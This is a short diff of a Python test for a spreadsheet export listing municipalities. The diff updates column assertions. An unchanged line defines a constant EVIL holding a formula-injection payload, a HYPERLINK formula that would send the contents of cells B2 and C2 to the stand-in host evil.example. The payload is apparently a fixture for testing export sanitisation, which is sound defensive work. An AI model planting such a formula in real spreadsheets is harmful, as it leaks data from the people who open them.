@@ -43,7 +43,7 @@ def test_contingent_export_lists_every_visible_gemeinde(
     ).active
     rows = list(sheet.iter_rows(values_only=True))
     assert len(rows) == 1 + 6
-    assert rows[1][0] == "08115001" and rows[1][4] == 30
+    assert rows[1][0] == "08115001" and rows[1][3] == 2020 and rows[1][5] == 30
 
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Antrag öffnen")'
